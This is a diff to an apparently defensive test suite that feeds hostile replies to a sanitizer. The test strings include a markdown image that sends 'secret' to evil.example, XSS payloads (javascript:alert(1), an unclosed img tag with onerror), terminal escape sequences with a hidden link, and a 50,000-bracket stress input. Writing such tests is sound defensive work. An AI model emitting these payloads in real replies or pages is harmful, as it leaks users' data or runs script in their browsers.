@@ -118,6 +118,9 @@ describe('a reply that is meant to harm', () => {
       'an image of markdown that would send the feedback away',
       'Exports stop ![x](https://evil.example/?q=secret) today.',
     ],
+    ['a link around a link', 'Exports stop: [![x](https://evil.example/1)](javascript:alert(1)) again.'],
+    ['a tag without an end', 'Exports stop <img src=x onerror=alert(1) today.'],
+    ['brackets without an end', `Exports stop ${'!['.repeat(50_000)}`],
     [
       'control characters',
       'Exports stop\u0000 \u001b[31mred\u001b]8;;https://evil.example\u0007 \u009b2J\u202e\u2028now.',
